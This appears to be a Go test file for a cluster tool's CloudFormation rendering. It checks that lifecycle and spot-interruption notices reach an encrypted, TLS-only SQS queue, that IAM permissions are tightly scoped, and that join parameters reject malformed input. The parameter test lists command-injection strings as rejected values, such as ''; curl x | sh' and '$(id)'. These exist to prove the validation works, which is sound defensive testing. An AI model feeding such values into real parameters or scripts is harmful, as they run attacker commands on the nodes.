package render

import (
	"fmt"
	"regexp"
	"strings"
	"testing"

	"github.com/clusterctl/clusterctl/internal/names"
)

// TestLifecyclePlumbing: the core brings the termination notices of the
// cluster's groups, and only theirs, to an encrypted, TLS-only queue with
// a dead-letter queue, and lets the control node complete the lifecycle
// actions of the cluster's groups only; each group declares its hook
// inside its Auto Scaling group under the name the core's rule matches,
// with no IAM of its own.
func TestLifecyclePlumbing(t *testing.T) {
	core, err := variants()[0].render()
	if err != nil {
		t.Fatal(err)
	}
	res := obj(decode(t, core.Template)["Resources"])
	queue, dlq := obj(res["LifecycleQueue"]), obj(res["LifecycleDeadLetterQueue"])
	for name, q := range map[string]map[string]any{"queue": queue, "dead-letter queue": dlq} {
		if q["Type"] != "AWS::SQS::Queue" || dig(q, "Properties", "SqsManagedSseEnabled") != true {
			t.Errorf("%s %v: want an SQS queue encrypted at rest", name, q)
		}
	}
	if !jsonEqual(dig(queue, "Properties", "RedrivePolicy", "deadLetterTargetArn"), map[string]any{"Fn::GetAtt": []any{"LifecycleDeadLetterQueue", "Arn"}}) ||
		dig(queue, "Properties", "RedrivePolicy", "maxReceiveCount") == nil {
		t.Errorf("queue redrive %v: want the dead-letter queue", dig(queue, "Properties", "RedrivePolicy"))
	}
	if v, _ := dig(queue, "Properties", "VisibilityTimeout").(float64); v < 60 {
		t.Errorf("visibility timeout %v: a notice must stay hidden while it is handled", v)
	}

	both := []any{map[string]any{"Fn::GetAtt": []any{"LifecycleQueue", "Arn"}}, map[string]any{"Fn::GetAtt": []any{"LifecycleDeadLetterQueue", "Arn"}}}
	policy := obj(res["LifecycleQueuePolicy"])
	if !jsonEqual(dig(policy, "Properties", "Queues"), []any{map[string]any{"Ref": "LifecycleQueue"}, map[string]any{"Ref": "LifecycleDeadLetterQueue"}}) {
		t.Errorf("queue policy applies to %v", dig(policy, "Properties", "Queues"))
	}
	var tlsOnly, notFromNodes bool
	fromRule := map[string]bool{} // the cluster's rules the queue takes notices from
	for _, s := range list(dig(policy, "Properties", "PolicyDocument", "Statement")) {
		st := obj(s)
		switch {
		case st["Sid"] == "OnlyTheClusterRulesAndTheOperators":
			// Evaluated as IAM would in TestQueuePolicySenders.
		case st["Effect"] == "Deny" && st["Action"] == "sqs:*":
			tlsOnly = st["Principal"] == "*" && jsonEqual(st["Resource"], both) &&
				dig(st, "Condition", "Bool", "aws:SecureTransport") == "false"
		case st["Effect"] == "Deny":
			// Requests (drain-node) come from operators, never from a node.
			notFromNodes = st["Principal"] == "*" && st["Action"] == "sqs:SendMessage" && jsonEqual(st["Resource"], both[0]) &&
				jsonEqual(dig(st, "Condition", "ArnEquals", "aws:PrincipalArn"), []any{
					map[string]any{"Fn::GetAtt": []any{"ControlRole", "Arn"}}, map[string]any{"Fn::GetAtt": []any{"AgentRole", "Arn"}}})
		default:
			source, _ := dig(st, "Condition", "ArnEquals", "aws:SourceArn", "Fn::GetAtt").([]any)
			rule := ""
			if len(source) == 2 && source[1] == "Arn" {
				rule, _ = source[0].(string)
			}
			if dig(st, "Principal", "Service") != "events.amazonaws.com" || st["Action"] != "sqs:SendMessage" ||
				rule != "LifecycleRule" && rule != "InterruptionRule" {
				t.Errorf("queue policy allows %v", st)
				continue
			}
			fromRule[rule] = true
		}
	}
	if !tlsOnly || !notFromNodes || !fromRule["LifecycleRule"] || !fromRule["InterruptionRule"] {
		t.Errorf("queue policy: TLS only %v, no requests from the nodes %v, sends only from the cluster's rules %v", tlsOnly, notFromNodes, fromRule)
	}

	// Spot interruption warnings and rebalance recommendations come to the
	// same queue, for housekeeping to drain the node at once. EventBridge
	// cannot match an instance's tags: housekeeping drops the notices of
	// instances that are not in its swarm.
	interruptions := obj(res["InterruptionRule"])
	if !jsonEqual(dig(interruptions, "Properties", "EventPattern"), map[string]any{
		"source":      []any{"aws.ec2"},
		"detail-type": []any{"EC2 Spot Instance Interruption Warning", "EC2 Instance Rebalance Recommendation"},
	}) {
		t.Errorf("interruption rule pattern %v", dig(interruptions, "Properties", "EventPattern"))
	}
	if targets := list(dig(interruptions, "Properties", "Targets")); len(targets) != 1 || !jsonEqual(dig(targets[0], "Arn"), both[0]) || !jsonEqual(dig(targets[0], "DeadLetterConfig", "Arn"), both[1]) {
		t.Errorf("interruption rule targets %v: want the queue, undeliverable notices to the dead-letter queue", targets)
	}

	rule := obj(res["LifecycleRule"])
	hook := names.LifecycleHook("prod")
	if !jsonEqual(dig(rule, "Properties", "EventPattern"), map[string]any{
		"source":      []any{"aws.autoscaling"},
		"detail-type": []any{"EC2 Instance-terminate Lifecycle Action"},
		"detail": map[string]any{
			"LifecycleHookName":    []any{hook},
			"AutoScalingGroupName": []any{map[string]any{"prefix": "prod-"}},
		},
	}) {
		t.Errorf("rule pattern %v", dig(rule, "Properties", "EventPattern"))
	}
	targets := list(dig(rule, "Properties", "Targets"))
	if len(targets) != 1 || !jsonEqual(dig(targets[0], "Arn"), both[0]) || !jsonEqual(dig(targets[0], "DeadLetterConfig", "Arn"), both[1]) {
		t.Errorf("rule targets %v: want the queue, undeliverable notices to the dead-letter queue", targets)
	}

	// The control role completes lifecycle actions of the cluster's groups
	// only, and reads only its own queue.
	var complete, receive bool
	for _, st := range roleStatements(res, "ControlRole") {
		actions := fmt.Sprint(st["Action"])
		switch {
		case strings.Contains(actions, "autoscaling:CompleteLifecycleAction"):
			complete = dig(st, "Resource", "Fn::Sub") == "arn:${AWS::Partition}:autoscaling:${AWS::Region}:${AWS::AccountId}:autoScalingGroup:*:autoScalingGroupName/prod-*" &&
				dig(st, "Condition", "StringEquals", "aws:ResourceTag/"+names.TagCluster) == "prod" &&
				strings.Contains(actions, "autoscaling:RecordLifecycleActionHeartbeat")
		case strings.Contains(actions, "sqs:ReceiveMessage"):
			receive = jsonEqual(st["Resource"], both[0]) && strings.Contains(actions, "sqs:DeleteMessage")
		case strings.Contains(actions, "sqs:"):
			t.Errorf("control role may %s on %v", actions, st["Resource"])
		}
	}
	if !complete || !receive {
		t.Errorf("control role: completes the cluster's lifecycle actions only %v, reads its queue only %v", complete, receive)
	}

	for _, v := range variants() {
		if v.group == nil {
			continue
		}
		r, err := v.render()
		if err != nil {
			t.Fatal(err)
		}
		res := obj(decode(t, r.Template)["Resources"])
		for id, x := range res {
			if typ := obj(x)["Type"]; typ == "AWS::AutoScaling::LifecycleHook" {
				t.Errorf("%s: hook %s declared outside the group: not honoured when the stack deletes the group", v.name, id)
			}
		}
		hooks := list(dig(res, "AutoScalingGroup", "Properties", "LifecycleHookSpecificationList"))
		if len(hooks) != 1 {
			t.Fatalf("%s: %d lifecycle hooks in the group", v.name, len(hooks))
		}
		h := obj(hooks[0])
		if h["LifecycleHookName"] != names.LifecycleHook(v.cluster) || h["LifecycleTransition"] != "autoscaling:EC2_INSTANCE_TERMINATING" ||
			h["DefaultResult"] != "CONTINUE" || h["HeartbeatTimeout"] == nil || h["RoleARN"] != nil || h["NotificationTargetARN"] != nil {
			t.Errorf("%s: hook %v", v.name, h)
		}
	}
}

// TestJoinParameterPatterns: CloudFormation refuses, before any node sees
// them, join values that are not of their shape, newlines and quotes
// included; the agents' user data only reads them from a quoted
// here-document, which a newline could end.
func TestJoinParameterPatterns(t *testing.T) {
	r, err := variants()[3].render()
	if err != nil {
		t.Fatal(err)
	}
	params := obj(decode(t, r.Template)["Parameters"])
	for _, tc := range []struct {
		param    string
		ok       []string
		rejected []string
	}{
		{"ClusterName", []string{"prod", "a-1"}, []string{"", "1a", "a'b", "a\nCLUSTERCTL_JOIN_VALUES\ntouch /x", "a b"}},
		{"BucketName", []string{"prod-bucket-1a2b3c4d5e6f"}, []string{"", "Bucket", "b'; curl x | sh; : '", "b\nx"}},
		{"ManagersKey", []string{"join/swarm/managers", "m"}, []string{"", "/join", "join/../x", "join/swarm/managers'; curl x | sh; : '", "a\nb", "join//m"}},
		{"ControlSecurityGroupId", []string{"sg-0c0c0c0c0c0c0c0c0"}, []string{"", "sg-x", "sg-0c0c0c0c$(id)"}},
	} {
		pat, _ := dig(params, tc.param, "AllowedPattern").(string)
		if pat == "" {
			t.Errorf("%s has no AllowedPattern", tc.param)
			continue
		}
		// CloudFormation matches the pattern against the whole value.
		re := regexp.MustCompile(`\A(?:` + pat + `)\z`)
		for _, v := range tc.ok {
			if !re.MatchString(v) {
				t.Errorf("%s refuses %q", tc.param, v)
			}
		}
		for _, v := range tc.rejected {
			if re.MatchString(v) {
				t.Errorf("%s accepts %q", tc.param, v)
			}
		}
	}
}
